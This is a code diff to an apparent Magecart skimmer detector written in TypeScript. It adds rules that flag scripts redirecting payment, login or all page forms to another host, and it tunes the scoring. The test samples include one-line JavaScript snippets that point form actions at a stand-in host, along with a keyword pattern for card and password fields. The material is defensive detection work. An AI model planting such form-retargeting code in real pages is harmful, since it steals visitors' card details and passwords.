@@ -2,7 +2,8 @@ import type { AnyNode } from 'acorn';
 import type { Facts } from '../facts/facts.ts';
 import { isCardName, isPaymentName, mentionsCardField } from '../flow/field-words.ts';
 import { anyField, taint } from '../flow/taint.ts';
-import { elementFinders, isElement } from '../values/paths.ts';
+import { propertyName } from '../tree/known-calls.ts';
+import { elementFinders } from '../values/paths.ts';
 import type { Feature, Finder } from './feature.ts';
 import {
   allOf,
@@ -21,6 +22,7 @@ import {
   text,
   unmasked,
 } from './finders.ts';
+import { allForms, formTargets } from './form-targets.ts';
 import { redirectsElsewhere } from './redirects.ts';
 import { imitatesService, isService } from './services.ts';
 
@@ -115,23 +117,24 @@ const paymentButtons: Finder = (facts) => {
   ];
 };
 
-/** Assignments of a URL on another host to a form of the page, not to one that the script creates. */
-const formTargets: Finder = ({ reading: { tree, values } }) => {
-  const found: number[] = [];
-  for (const number of tree.ofType('AssignmentExpression')) {
-    const node = tree.node(number);
-    if (node?.type !== 'AssignmentExpression' || node.left.type !== 'MemberExpression') continue;
-    const isForm =
-      values.property(node.left) === 'action' && isElement(values.path(node.left.object));
-    if (isForm && foreignAddress.test(values.text(node.right) ?? '')) found.push(number);
-  }
-  return found;
-};
-const foreignAddress = /^(?:https?:)?\/\/[\w-]+(?:\.[\w-]+)+/i;
+/** Nodes between the target of a form and what the form contains. */
+const NEAR_CARD = 1500;
+const NEAR_FORMS = 300;
+const secretForm = /card|cvv|cvc|payment|checkout|passw|log-?in|sign-?in/i;
+
+/** `submit` as the name of an event, not as the type of a button. */
+const submitNames: Finder = ({ texts, reading: { tree } }) =>
+  texts.flatMap(({ text: it, node }) => {
+    if (it !== 'submit' && it !== 'onsubmit') return [];
+    const user = tree.parent(node);
+    const isCompared = user?.type === 'BinaryExpression' || user?.type === 'SwitchCase';
+    const isType = user?.type === 'Property' && propertyName(user.key) === 'type';
+    return isCompared || isType ? [] : [node];
+  });
 
 /** Listeners for the submission of forms. */
 const submitListeners: Finder = anyOf(
-  text(({ text: it }) => it === 'submit' || it === 'onsubmit'),
+  submitNames,
   properties('onsubmit'),
   calls('$.submit', 'jQuery.submit', '<node>.submit'),
 );
@@ -307,23 +310,48 @@ export const magecartFeatures: readonly Feature[] = [
     shows: ['destination'],
     find: formTargets,
     samples: {
-      matching: [`document.querySelector('form').action = 'https://x.test/p';`],
+      matching: [
+        `document.querySelector('form').action = 'https://x.test/p';`,
+        `$('#pay').attr('action', settings.target); var settings = { target: 'https://x.test/p' };`,
+        `document.querySelectorAll('form').forEach(lead); function lead(f) { f.setAttribute('action', 'https://' + 'x.test' + '/p'); }`,
+        `document.querySelector('button').formAction = 'https://x.test/p';`,
+        `Object.assign(document.forms[0], { action: 'https://x.test/p' });`,
+      ],
       other: [
         `document.querySelector('form').action = '/p';`,
         `var f = document.createElement('form'); f.action = 'https://x.test/p';`,
+        `settings.action = 'https://x.test/p';`,
+      ],
+    },
+  },
+  {
+    id: 'all-forms-led-elsewhere',
+    what: 'Changes the target of all forms of the page, whatever is typed into them',
+    points: 45,
+    shows: ['taken'],
+    find: near(NEAR_FORMS, formTargets, allForms),
+    samples: {
+      matching: [
+        `for (const form of document.forms) form.action = 'https://x.test/p';`,
+        `document.addEventListener('submit', (e) => { e.target.action = 'https://x.test/p'; });`,
+      ],
+      other: [
+        `document.querySelector('form.search').action = 'https://x.test/p';`,
+        `function make() { const form = document.createElement('form'); form.method = 'post'; return form; } const form = make(); form.action = 'https://x.test/p'; form.submit();`,
       ],
     },
   },
   {
     id: 'payment-target-changed',
-    what: 'Changes the target of forms with card fields to another host',
+    what: 'Changes the target of forms with card fields or passwords to another host',
     points: 45,
     shows: ['taken'],
-    find: allOf(
+    find: near(
+      NEAR_CARD,
       formTargets,
       anyOf(
         paymentSelectors,
-        text(({ text: it }) => it.length < 100 && /card|cvv|cvc|payment|checkout/i.test(it)),
+        text(({ text: it }) => it.length < 100 && secretForm.test(it)),
       ),
     ),
     samples: {
@@ -440,7 +468,7 @@ export const magecartFeatures: readonly Feature[] = [
   {
     id: 'made-form-sent',
     what: 'Inserts a form with card fields into the page, sends fields to another host and ignores the response',
-    points: 45,
+    points: 65,
     shows: ['destination'],
     find: allOf(madeCardForm, sendsToIgnoringResponse(otherHosts, taint.field)),
     samples: {
@@ -472,7 +500,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'imitated-service',
     what: 'Uses a host that imitates the name of a well-known service',
     points: 30,
-    shows: ['destination'],
+    shows: ['destination', 'hidden'],
     find: text(({ text: it }) => imitatesService(it)),
     samples: {
       matching: [`load('https://google-analytics.stat.test/ga.js');`],
